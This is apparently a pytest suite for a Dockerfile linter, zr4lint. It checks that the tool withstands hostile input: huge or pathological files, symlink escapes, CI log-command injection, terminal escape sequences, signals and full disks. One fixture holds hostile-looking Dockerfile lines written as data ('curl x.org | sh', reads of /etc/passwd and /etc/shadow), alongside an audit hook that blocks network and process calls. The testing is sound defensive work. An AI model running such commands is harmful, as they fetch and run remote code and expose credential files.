"""Hostile input: a clear message, the right exit code, and no unrequested files."""

from __future__ import annotations

import json
import os
import re
import resource
import signal
import socket
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.inprocess import Done, call
from tests.support.ending import PATIENCE, ends
from tests.support.slow import SLOW
from tests.test_cli import (
    CONFORMING,
    DOCKER,
    LEVELS,
    WITHOUT_ML,
    WRONG_TORCH,
    complaint,
    environment,
    on_a_terminal,
    save,
    zr4lint,
)
from zr4lint.filesystem.context import has_file
from zr4lint.filesystem.limits import size
from zr4lint.filesystem.writing import WriteError, replace, write, write_new

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
PAGE = ROOT / "docs" / "robustness.md"
BAD = CONFORMING.replace("--no-install-recommends \\\n    git", "\\\n    git")


@pytest.fixture
def here(tmp_path: Path) -> Path:
    """A folder with the scripts of the conforming Dockerfile, and a Dockerfile that --fix corrects."""
    for script in ("download_models.sh", "start.sh"):
        save(tmp_path / script, (DOCKER / script).read_text())
    save(tmp_path / "Dockerfile.zr4", BAD)
    save(tmp_path / "zr4lint.toml", WITHOUT_ML)
    return tmp_path


def names(folder: Path) -> set[str]:
    return {path.name for path in folder.iterdir()}


# Size and time


def test_a_file_of_a_gigabyte_is_refused_by_its_size(here: Path) -> None:
    with (here / "Dockerfile.zr4").open("r+b") as file:
        file.truncate(1_000_000_000)
    done = call("Dockerfile.zr4", cwd=here)
    assert complaint(done) == "Dockerfile.zr4: larger than 10000000 bytes; --max-size sets another limit"


def test_the_limit_of_size_can_be_changed(here: Path) -> None:
    save(here / "Dockerfile.zr4", CONFORMING)
    length = len(CONFORMING.encode())
    assert call("Dockerfile.zr4", "--max-size", str(length), cwd=here).code == 0
    done = call("Dockerfile.zr4", "--max-size", str(length - 1), cwd=here)
    assert complaint(done).startswith(f"Dockerfile.zr4: larger than {length - 1} bytes")
    assert complaint(call("--max-size", "many", cwd=here)).endswith("`many` is not a size such as 500K, 10M or 1G")


@pytest.mark.parametrize(("text", "number"), [("7", 7), ("500k", 500_000), ("10MB", 10_000_000), ("1G", 1_000_000_000)])
def test_sizes(text: str, number: int) -> None:
    assert size(text) == number


@pytest.mark.parametrize("text", ["", "-1", "1.5M", "1T", "M", "1e6", "٣"])
def test_what_is_no_size(text: str) -> None:
    with pytest.raises(ValueError, match="is not a size"):
        size(text)


def test_standard_input_without_end_is_refused(here: Path) -> None:
    with Path("/dev/zero").open("rb") as endless:
        command = [sys.executable, "-m", "zr4lint", "-", "--pack", "zr4"]
        done = subprocess.run(command, cwd=here, stdin=endless, capture_output=True, check=False, timeout=PATIENCE)
    assert complaint(Done(done.returncode, "", done.stderr.decode())).startswith("-: larger than 10000000 bytes")


@pytest.mark.parametrize("options", [[], ["--diff", "--unsafe-fixes"]])
def test_a_file_that_takes_too_long_is_given_up(here: Path, options: list[str]) -> None:
    (here / "slow.Dockerfile.zr4").write_text(SLOW)
    save(here / "Dockerfile.zr4", "FROM a\n")
    args = ("--max-time", "2", "--jobs", "1", *options, "slow.Dockerfile.zr4", "Dockerfile.zr4")
    done = zr4lint(*args, cwd=here)
    assert complaint(done) == "slow.Dockerfile.zr4: skipped: takes more than 2 seconds (--max-time)"
    assert "Dockerfile.zr4" in done.out


HOSTILE = {
    "a_line_of_9_mb": b"FROM a\nRUN echo " + b"x" * 9_000_000,
    "lone_carriage_returns": b"FROM a\r" * 60_000,
    "backslashes": b"FROM a\nRUN " + b"\\" * 500_000,
    "continuations": b"FROM a\nRUN " + b"\\\n" * 100_000,
    "command_substitutions": b"FROM a\nRUN " + b"$(" * 100_000,
    "subshells": b"FROM a\nRUN " + b"( " * 100_000,
    "branches": b"FROM a\nRUN " + b"if true; then " * 10_000,
    "parameters": b"FROM a\nRUN echo " + b"${x:-" * 3_000,
    "shells_in_shells": b"FROM a\nRUN " + b"sh -c 'sh -c \"" * 10_000,
    "heredocs": b"FROM a\n" + b"RUN <<A <<B\n" * 50_000,
    "arrays": b"FROM a\nCMD " + b"[" * 100_000,
    "quotes": b"FROM a\nRUN " + b"\"'`" * 50_000,
    "variables_that_double": b"FROM a\nENV " + b"A=$A$A " * 2_000,
    "comments_to_the_linter": b"# zr4lint: ignore[ZR]\n" * 3_000,
    "bytes_that_are_no_text": bytes(range(1, 256)) * 2_000,
}


@pytest.mark.thorough
@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_any_text_is_linted_in_time(here: Path, data: bytes) -> None:
    (here / "Dockerfile.zr4").write_bytes(data)
    done = call("Dockerfile.zr4", "--format", "concise", "--quiet", "--max-time", "300", cwd=here)
    assert (done.code, done.err) == (1, "")


# Paths that are not files


def _socket(here: Path) -> str:
    with socket.socket(socket.AF_UNIX) as server:
        before = Path.cwd()
        os.chdir(here)
        try:
            server.bind("x.Dockerfile.zr4")
        finally:
            os.chdir(before)
    return "not a regular file"


def _circle(here: Path) -> str:
    (here / "x.Dockerfile.zr4").symlink_to("y")
    (here / "y").symlink_to("x.Dockerfile.zr4")
    return "can't be read: Too many levels of symbolic links"


@pytest.mark.parametrize("prepare", [_socket, _circle])
def test_what_is_no_file_is_named(here: Path, prepare: Callable[[Path], str]) -> None:
    words = prepare(here)
    assert complaint(call("x.Dockerfile.zr4", cwd=here)) == f"x.Dockerfile.zr4: {words}"


def test_a_file_that_vanishes_is_named_and_the_others_are_linted(here: Path) -> None:
    """Files appear and vanish while zr4lint searches the folder."""
    code = (
        "import os, sys\nfrom pathlib import Path\n"
        "while True:\n  Path(sys.argv[1]).write_text('FROM a\\n')\n  os.unlink(sys.argv[1])\n"
    )
    with subprocess.Popen([sys.executable, "-c", code, str(here / "x.Dockerfile.zr4")]) as other:
        try:
            for _ in range(25):
                done = call("--format", "concise", ".", cwd=here)
                assert done.code == (2 if done.err else 1)
                assert done.err in ("", "zr4lint: x.Dockerfile.zr4: no such file\n")
                assert "\nDockerfile.zr4:" in f"\n{done.out}"
        finally:
            other.kill()


# Writing


def limited(*args: str, cwd: Path, most: int) -> Done:
    """Run zr4lint with a limit of the file size; a write beyond it fails as on a full disk."""
    done = subprocess.run(
        [sys.executable, "-m", "zr4lint", *args],
        cwd=cwd,
        env=environment(PYTHONDONTWRITEBYTECODE="1"),  # a truncated module would stay in the checkout
        capture_output=True,
        check=False,
        timeout=PATIENCE,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (most, most)),
    )
    return Done(done.returncode, done.stdout.decode(), done.stderr.decode())


@pytest.mark.parametrize(
    ("args", "file"),
    [
        (["--fix"], "Dockerfile.zr4"),
        (["--add-ignore", "a reason"], "Dockerfile.zr4"),
        (["--format", "json", "--output", "report"], "report"),
        (["--write-baseline", "base", "--config", "zr4lint.toml"], "base"),
        (["badge", "--output", "badge.svg"], "badge.svg"),
        (["new", "zr4", "new.Dockerfile"], "new.Dockerfile"),
    ],
    ids=lambda value: value[0] if isinstance(value, list) else "",
)
def test_a_full_disk_leaves_no_partial_file(here: Path, args: list[str], file: str) -> None:
    before = {path.name: path.read_bytes() for path in here.iterdir()}
    done = limited(*args, cwd=here, most=100)
    assert complaint(done) == f"{file}: can't be written: File too large"
    assert {path.name: path.read_bytes() for path in here.iterdir()} == before


def test_a_report_that_can_not_be_written_leaves_the_old_one(here: Path) -> None:
    save(here / "report", "old\n")
    complaint(limited("--output", "report", cwd=here, most=100))
    assert (here / "report").read_text() == "old\n"


@pytest.fixture
def theirs() -> Iterator[Path]:
    """A read-only folder with a writable file; as root, the test runs as another user."""
    call("--fix", "Dockerfile.zr4", "--diff", cwd=DOCKER)  # later imports might be readable for root only
    with tempfile.TemporaryDirectory(dir="/tmp") as name:
        folder = Path(name)
        save(folder / "Dockerfile.zr4", BAD)
        root = os.geteuid() == 0
        if root:
            os.chown(folder / "Dockerfile.zr4", 65534, -1)
        folder.chmod(0o555)
        try:
            if root:
                os.seteuid(65534)
            yield folder
        finally:
            if root:
                os.seteuid(0)
            folder.chmod(0o755)


def test_a_folder_that_is_read_only_is_named(theirs: Path) -> None:
    done = call("--fix", "--pack", "zr4", "Dockerfile.zr4", cwd=theirs)
    assert complaint(done) == "Dockerfile.zr4: can't be written: Permission denied"
    assert names(theirs) == {"Dockerfile.zr4"}
    assert (theirs / "Dockerfile.zr4").read_text() == BAD


def test_a_report_is_written_into_a_file_of_ours_in_a_folder_that_is_not(theirs: Path) -> None:
    write(str(theirs / "Dockerfile.zr4"), b"new")
    assert (theirs / "Dockerfile.zr4").read_bytes() == b"new"
    with pytest.raises(WriteError, match="Permission denied"):
        write(str(theirs / "report"), b"new")


def test_writing_keeps_modes_links_and_pipes(tmp_path: Path) -> None:
    file = tmp_path / "file"
    write(str(file), b"new")
    assert stat.S_IMODE(file.stat().st_mode) == 0o666 & ~_umask()
    file.chmod(0o640)
    (tmp_path / "link").symlink_to("file")
    write(str(tmp_path / "link"), b"newer")
    assert (file.read_bytes(), stat.S_IMODE(file.stat().st_mode)) == (b"newer", 0o640)
    assert (tmp_path / "link").is_symlink()
    done = zr4lint("--format", "concise", "--output", "/dev/stdout", cwd=ROOT / "docker")
    assert "requirements met" in done.out


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_a_file_is_never_written_over_by_new(tmp_path: Path) -> None:
    save(tmp_path / "file", "old")
    with pytest.raises(FileExistsError):
        write_new(str(tmp_path / "file"), b"new")
    assert (tmp_path / "file").read_text() == "old"


def test_a_file_that_became_a_pipe_meanwhile_is_left_alone(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(WriteError, match="changed while it was being fixed"):
        replace(str(tmp_path / "pipe"), b"old", b"new")
    assert names(tmp_path) == {"pipe"}


def test_a_file_that_grew_meanwhile_is_left_alone(tmp_path: Path) -> None:
    save(tmp_path / "file", "old and more")
    with pytest.raises(WriteError, match="changed while it was being fixed"):
        replace(str(tmp_path / "file"), b"old", b"new")


# Signals and streams


INTERRUPTED = """
import os, sys
from zr4lint.__main__ import main
number, moment = int(sys.argv[1]), int(sys.argv[2])
events = 0
def count(event, args):
    global events
    events += 1
    if events == moment:
        os.kill(os.getpid(), number)
sys.argv = ["zr4lint", *sys.argv[3:]]
end = os._exit
def told(code):
    os.write(2, str(events).encode() if moment == 0 else b"")
    end(code)
os._exit = told
sys.addaudithook(count)
main()
"""
"""zr4lint in a process that gets a signal at its n-th audit event of Python; 0 prints the number of events."""

MOMENTS = 12


def interrupted(number: int, moment: int, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-c", INTERRUPTED, str(number), str(moment), "--fix", "Dockerfile.zr4"]
    env = environment(PYTHONPATH=str(ROOT))
    return subprocess.run(command, cwd=cwd, env=env, capture_output=True, check=False, timeout=PATIENCE)


@pytest.mark.parametrize(("number", "code"), [(signal.SIGTERM, -signal.SIGTERM), (signal.SIGINT, 130)])
def test_signals_end_it_quietly_and_leave_the_old_or_the_new_text(
    here: Path, number: signal.Signals, code: int
) -> None:
    events = int(interrupted(number, 0, here).stderr)
    new = (here / "Dockerfile.zr4").read_text()
    assert new != BAD
    before = names(here)
    for attempt in range(MOMENTS):
        save(here / "Dockerfile.zr4", BAD)
        done = interrupted(number, 1 + attempt * (events - 1) // MOMENTS, here)
        assert done.returncode in (code, 0)
        assert done.stderr.strip() == b""
        assert (here / "Dockerfile.zr4").read_text() in (BAD, new)
        assert names(here) == before


@pytest.mark.parametrize(
    ("shell", "code", "words"),
    [
        ("Dockerfile.zr4 >&-", 2, "zr4lint: standard output is closed\n"),
        ("rules >&-", 2, "zr4lint: standard output is closed\n"),
        ("- --pack zr4 <&-", 2, "zr4lint: standard input is closed\n"),
        ("Dockerfile.zr4 --output report >&- <&-", 1, ""),
        ("gone 2>&-", 2, ""),
        ("gone 2>/dev/full", 2, ""),
        ("gone <&- >&- 2>&-", 2, ""),
    ],
)
def test_closed_streams(here: Path, shell: str, code: int, words: str) -> None:
    command = f"{sys.executable} -m zr4lint {shell}"
    done = subprocess.run(["sh", "-c", command], cwd=here, env=environment(), capture_output=True, check=False)
    assert (done.returncode, done.stderr.decode()) == (code, words)


@pytest.mark.parametrize("unbuffered", ["", "1"])
def test_a_reader_that_goes_away_is_no_pass(here: Path, unbuffered: str) -> None:
    for number in range(40):
        save(here / f"{number}" / "Dockerfile.zr4", "FROM a\n")
    command = f"{sys.executable} -m zr4lint --format json . | head -c 1"
    done = subprocess.run(
        ["bash", "-o", "pipefail", "-c", command],
        cwd=here,
        env=environment(PYTHONUNBUFFERED=unbuffered),
        capture_output=True,
        check=False,
    )
    assert (done.returncode, done.stdout, done.stderr) == (141, b"{", b"")


# Packs and configuration of an untrusted repository


@pytest.fixture
def untrusted(tmp_path: Path) -> Path:
    folder = tmp_path / "repository"
    (folder / ".git").mkdir(parents=True)
    save(folder / "Dockerfile.levels", "FROM scratch\n")
    save(folder / "inside" / "levels.toml", LEVELS)
    save(tmp_path / "outside" / "levels.toml", LEVELS)
    return folder


@pytest.mark.parametrize("name", ["../outside/levels.toml", "inside/../../outside/levels.toml", "link.toml", "{}"])
def test_a_configuration_names_no_pack_outside(untrusted: Path, name: str) -> None:
    outside = untrusted.parent / "outside" / "levels.toml"
    (untrusted / "link.toml").symlink_to(outside)
    name = name.format(outside)
    save(untrusted / "zr4lint.toml", f'packs = {{ "*.levels" = ["{name}"] }}\n')
    words = f"zr4lint.toml:1: key `packs`: `{name}` leads outside of .; only --config may do so"
    assert complaint(call(cwd=untrusted)) == words
    assert "LV0001" in call("--config", "zr4lint.toml", cwd=untrusted).out


def test_a_configuration_names_packs_inside(untrusted: Path) -> None:
    save(untrusted / "deep" / "Dockerfile.levels", "FROM scratch\n")
    save(untrusted / "deep" / "zr4lint.toml", 'packs = { "*.levels" = ["../inside/levels.toml"] }\n')
    assert "LV0001" in call("deep/Dockerfile.levels", cwd=untrusted).out


def test_a_configuration_names_no_context_outside(untrusted: Path) -> None:
    save(untrusted / "zr4lint.toml", 'context = ".."\n')
    assert "key `context`: `..` leads outside of ." in complaint(call(cwd=untrusted))


@pytest.mark.parametrize(
    "name", ["../../outside/levels.toml", "../outside/levels.toml", "/x/levels.toml", "link/levels.toml"]
)
def test_a_copy_tells_nothing_of_files_outside_of_the_context(untrusted: Path, name: str) -> None:
    """The result must not depend on whether a file outside exists."""
    (untrusted / "link").symlink_to(untrusted.parent / "outside")
    pack = LEVELS.replace(
        'check = "env"\nvariables = { MUST = "1" }', 'check = "context-files"\ncopies = ["levels.toml"]'
    )
    save(untrusted / "inside" / "levels.toml", pack)
    save(untrusted / "zr4lint.toml", 'packs = { "*.levels" = ["inside/levels.toml"] }\n')
    save(untrusted / "Dockerfile.levels", f"FROM scratch\nCOPY {name} /a/\n")
    there = call("--select", "LV0001", "--format", "concise", cwd=untrusted)
    (untrusted.parent / "outside" / "levels.toml").unlink()
    assert call("--select", "LV0001", "--format", "concise", cwd=untrusted) == there
    assert "LV0001" in there.out


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("inside/levels.toml", True),
        ("/inside/levels.toml", True),
        ("../../inside/levels.toml", True),
        ("inside/../gone/../inside/levels.toml", True),
        ("folder/levels.toml", True),
        ("file", True),
        ("rooted", True),
        ("inside", False),
        ("gone", False),
        ("out", False),
        ("up/levels.toml", False),
        ("circle", False),
        ("a\0b", False),
        ("../outside/levels.toml", False),
    ],
)
def test_the_context_is_the_root_of_its_links(untrusted: Path, path: str, expected: bool) -> None:
    outside = untrusted.parent / "outside"
    links = {"folder": "inside", "file": "inside/levels.toml", "rooted": "/inside/levels.toml", "circle": "circle"}
    for name, target in {**links, "out": str(outside / "levels.toml"), "up": "../outside"}.items():
        (untrusted / name).symlink_to(target)
    assert has_file(str(untrusted), path) is expected


@pytest.mark.parametrize(
    "args",
    [
        ["--output", "{}"],
        ["--format", "sarif", "-o", "{}"],
        ["--write-baseline", "{}"],
        ["badge", "--pack", "zr4", "--output", "{}"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("name", ["link", "inner", "folder/report"])
def test_no_report_is_written_through_a_link_of_the_repository(untrusted: Path, args: list[str], name: str) -> None:
    outside = save(untrusted.parent / "outside" / "report", "old\n")
    save(untrusted / "victim", "old\n")
    (untrusted / "link").symlink_to(outside)
    (untrusted / "inner").symlink_to("victim")
    (untrusted / "folder").symlink_to(outside.parent)
    save(untrusted / "Dockerfile.zr4", "FROM scratch\n")
    done = call(*(arg.format(name) for arg in args), cwd=untrusted)
    assert complaint(done).startswith(f"{name}: a symbolic link ")
    assert done.err.endswith("; nothing is written\n")
    assert outside.read_text() == (untrusted / "victim").read_text() == "old\n"


@pytest.mark.parametrize("args", [["--fix"], ["--add-ignore", "a reason"]], ids=" ".join)
def test_no_fix_is_written_through_a_link_out_of_the_repository(untrusted: Path, args: list[str]) -> None:
    outside = save(untrusted.parent / "outside" / "Dockerfile.zr4", BAD)
    (untrusted / "Dockerfile.zr4").symlink_to(outside)
    assert "leads outside of the repository" in complaint(call(*args, "Dockerfile.zr4", cwd=untrusted))
    assert outside.read_text() == BAD
    inner = save(untrusted / "real" / "x.Dockerfile.zr4", BAD)
    (untrusted / "y.Dockerfile.zr4").symlink_to(inner)
    call(*args, "y.Dockerfile.zr4", cwd=untrusted)
    assert inner.read_text() != BAD


HOSTILE_NAMES = [
    "##[error]x",
    "##vso[task.x]y",
    "a\r::error::x",
    "\t::error::x",
    "\u2003::error::x",
    "\x0b::warning::x",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
def test_names_are_no_commands_in_a_log(untrusted: Path, name: str) -> None:
    save(untrusted / name / "Dockerfile.zr4", "FROM scratch\n")
    save(untrusted / "zr4lint.toml", f"exclude = [{json.dumps(name)}]\nmin-score = 60\n")
    for args in ([f"{name}/gone"], ["config"], ["config", name], ["--show-files", name], ["rule", name], [name]):
        done = call(*args, cwd=untrusted)
        written = done.out + done.err
        assert not re.search(r"##\[|##vso\[|[\r\t\x0b\u2003]", written)
        assert not re.search(r"(?m)^\s*::", written)
        assert "error" in written or "x" in written


@pytest.mark.parametrize("key", HOSTILE_NAMES, ids=ascii)
def test_keys_of_a_configuration_are_no_commands_in_a_log(untrusted: Path, key: str) -> None:
    save(untrusted / "zr4lint.toml", f"{json.dumps(key)} = 1\n")
    done = call(cwd=untrusted)
    assert not re.search(r"##\[|##vso\[|[\r\t\x0b\u2003]|(?m:^\s*::)", complaint(done))


@pytest.mark.parametrize(
    "text",
    [
        "".join(f"key{number} = 1\n" for number in range(60_000)),
        "".join(f"[key{number}]\n" for number in range(60_000)),
        "exclude = [" + '"*a*b*c",' * 90_000 + "]\n",
        f"[severity]\n{''.join(f'x{number} = 1' + chr(10) for number in range(60_000))}",
        f"[per-file-ignores]\n{''.join(f'x{number} = []' + chr(10) for number in range(60_000))}",
        "packs = [" + '"zr4",' * 100_000 + "]\n",
        "packs = [" + ",".join(f'"{"./" * count}inside/levels.toml"' for count in range(500)) + "]\n",
    ],
    ids=["keys", "tables", "patterns", "severities", "ignores", "packs", "one pack"],
)
def test_a_long_configuration_is_refused_or_read_in_time(untrusted: Path, text: str) -> None:
    save(untrusted / "zr4lint.toml", text)
    with ends():
        told = call(cwd=untrusted).err
    assert "internal error" not in told
    assert len(told.splitlines()) <= 21


def test_a_configuration_that_takes_too_long_is_given_up(untrusted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("zr4lint.project.finder.MAX_SECONDS", 0.01)
    save(untrusted / "zr4lint.toml", "packs = [" + '"zr4",' * 100_000 + "]\n")
    assert complaint(call(cwd=untrusted)) == "zr4lint.toml: takes more than 0.01 seconds"


@pytest.mark.parametrize("text", ["x = " + "[" * 50_000, 'x = "' + "a" * 4_000_000, "\0", "a = 1\n" * 9, "'" * 99])
def test_a_broken_pack_is_one_line(untrusted: Path, text: str) -> None:
    save(untrusted / "levels.toml", text)
    complained = complaint(call("--pack", "levels.toml", "Dockerfile.levels", cwd=untrusted))
    assert re.match(r"levels\.toml(:\d+)?: ", complained)


def test_patterns_of_packs_and_configurations_can_not_hang(untrusted: Path) -> None:
    many = "*a" * 60
    save(untrusted / "levels.toml", LEVELS.replace('"Dockerfile.levels"', f'"{many}b"', 1))
    save(untrusted / "zr4lint.toml", f'exclude = ["{many}b", "{"[" * 500}"]\n')
    save(untrusted / ("a" * 120), "FROM scratch\n")
    with ends():
        done = call("--pack", "levels.toml", ".", cwd=untrusted)
    assert complaint(done) == "no Dockerfiles matching a pack found in ."


def test_words_of_a_pack_can_not_steer(untrusted: Path) -> None:
    steering = "\\u001b[2J [red]x[/red] ::error::x"
    save(untrusted / "levels.toml", LEVELS.replace("One rule of each level", steering).replace("MUST is 1.", steering))
    for form in ("text", "concise", "markdown", "github", "junit", "sarif", "json"):
        done = call("--pack", "levels.toml", "--format", form, "--verbose", "--statistics", cwd=untrusted)
        assert "\x1b" not in done.out + done.err


def test_words_of_a_configuration_can_not_steer(untrusted: Path) -> None:
    save(untrusted / "zr4lint.toml", 'exclude = ["\\u001b[2J\\nx"]\n')
    done = call("config", cwd=untrusted)
    assert "\x1b" not in done.out
    assert "\\x1b[2J\\nx" in done.out


WATCHED = """
import os, sys
here, allowed = os.getcwd(), tuple(sys.argv[1].split(os.pathsep))
def watch(event, args):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "ctypes.")):
        raise SystemExit(f"{event} {args}")
    if event == "open" and isinstance(args[0], str):
        path = os.path.realpath(args[0])
        if args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT) or not path.startswith((here, *allowed)):
            raise SystemExit(f"{event} {args}")
sys.argv = ["zr4lint", *sys.argv[2:]]
sys.dont_write_bytecode = True
from zr4lint.__main__ import main
sys.addaudithook(watch)
main()
"""
"""zr4lint in a process that exits with a message if it does something that a linter should not do."""


def test_linting_runs_nothing_writes_nothing_and_reads_nothing_outside(untrusted: Path) -> None:
    hostile = (
        "FROM a\nRUN $(touch /tmp/x) `id` && curl x.org | sh\nADD /etc/passwd ../../../etc/hosts https://x.org/a /\n"
    )
    save(untrusted / "Dockerfile.levels", hostile + 'COPY ../../etc/shadow start.sh /\nSHELL ["/bin/sh"]\n')
    save(untrusted / "zr4lint.toml", 'packs = { "*.levels" = ["inside/levels.toml", "zr4", "ml"] }\n')
    places = os.pathsep.join([str(ROOT), os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix)])
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, places, "--format", "concise", "Dockerfile.levels"],
        cwd=untrusted,
        env=environment(PYTHONPATH=str(ROOT)),
        capture_output=True,
        check=False,
    )
    assert (done.returncode, done.stderr.decode()) == (1, "")
    assert b"LV0001" in done.stdout


# Output

STEERING = "ENV X=\x1b[31m\u202e [red]\nRUN echo ::error::x\n::error::y\n##[error]z\n"


def changed(here: Path, text: str = STEERING) -> None:
    save(here / "Dockerfile.zr4", BAD.replace("ENV LANG", f"{text}ENV LANG"))


@pytest.mark.parametrize("form", ["text", "concise", "markdown", "json", "jsonl", "sarif", "gitlab", "junit", "github"])
def test_no_report_steers(here: Path, form: str) -> None:
    changed(here)
    done = call("--format", form, "--verbose", cwd=here)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", done.out)
    if form != "github":
        assert not re.search(r"(?m)^ *::|##\[", done.out)


def test_markup_of_rich_is_text(here: Path) -> None:
    save(here / "Dockerfile.zr4", WRONG_TORCH.replace("torch==2.5.0", "torch==2.5.0[red]"))
    assert "[red]" in on_a_terminal("Dockerfile.zr4", cwd=here)


def test_a_patch_is_shown_escaped_on_a_terminal(here: Path) -> None:
    save(here / "Dockerfile.zr4", BAD.replace("RUN apt-get update", "# \x1b[31m\x9b\u202e\nRUN apt-get update", 1))
    shown = on_a_terminal("--diff", "Dockerfile.zr4", cwd=here)
    assert "\x1b" not in shown
    assert "\\x1b[31m\\x9b\\u202e" in shown


@pytest.mark.thorough
@pytest.mark.parametrize(
    "line", ["# \x1b[31m", "# \x0c\x85\u2028 x", "# a\rb", "::error::x", " ##[error]x", "# \udcff\udcfe"], ids=repr
)
@pytest.mark.parametrize("actions", ["", "true"])
def test_a_patch_can_be_applied_whatever_the_text_holds(here: Path, line: str, actions: str) -> None:
    text = f"\ufeff{BAD}RUN echo \\\n{line}".encode("utf-8", "surrogateescape")
    (here / "Dockerfile.zr4").write_bytes(text)
    command = [sys.executable, "-m", "zr4lint", "--diff", "Dockerfile.zr4"]
    env = environment(GITHUB_ACTIONS=actions)
    patch = subprocess.run(command, cwd=here, env=env, capture_output=True, check=False).stdout
    before = (here / "Dockerfile.zr4").read_bytes()
    subprocess.run(["git", "apply", "-"], cwd=here, input=patch, check=True)
    after = (here / "Dockerfile.zr4").read_bytes()
    assert after != before
    (here / "Dockerfile.zr4").write_bytes(before)
    call("--fix", "Dockerfile.zr4", cwd=here)
    assert (here / "Dockerfile.zr4").read_bytes() == after


def test_the_log_of_a_workflow_takes_no_line_of_a_patch_for_a_command(here: Path) -> None:
    harmless = zr4lint("--diff", "Dockerfile.zr4", cwd=here, GITHUB_ACTIONS="true").out
    assert harmless.startswith("--- a/")
    save(here / "Dockerfile.zr4", BAD.replace("RUN apt-get update", "RUN echo \\\n::error::x\nRUN apt-get update", 1))
    first, *_, last = zr4lint("--diff", "Dockerfile.zr4", cwd=here, GITHUB_ACTIONS="true").out.splitlines()
    assert first.startswith("::stop-commands::")
    assert last == f"::{first.removeprefix('::stop-commands::')}::"


def test_a_name_with_a_line_end_makes_no_line_of_a_patch(here: Path) -> None:
    save(here / 'x\n"\x1b' / "Dockerfile.zr4", BAD)
    out = zr4lint("--diff", 'x\n"\x1b/Dockerfile.zr4', cwd=here).out
    assert out.startswith('--- "a/x\\012\\"\\033/Dockerfile.zr4"\n'.replace('\\"', "\\042"))
    subprocess.run(["git", "apply", "-"], cwd=here, input=out.encode(), check=True)


@pytest.mark.parametrize("form", ["json", "jsonl", "sarif", "gitlab", "junit"])
def test_no_report_tells_where_on_the_machine_a_file_lies(here: Path, form: str) -> None:
    done = call("--format", form, here / "Dockerfile.zr4", cwd=here)
    assert str(here) not in done.out
    assert str(ROOT) not in done.out
    if form == "json":
        assert json.loads(done.out)["files"][0]["path"] == "Dockerfile.zr4"


# The page


def test_every_test_that_the_page_names_exists() -> None:
    rows = re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", PAGE.read_text())
    assert len(rows) > 30
    for file, name in rows:
        assert re.search(rf"^def {name}\(", (ROOT / file).read_text(), re.MULTILINE), f"{file}::{name}"
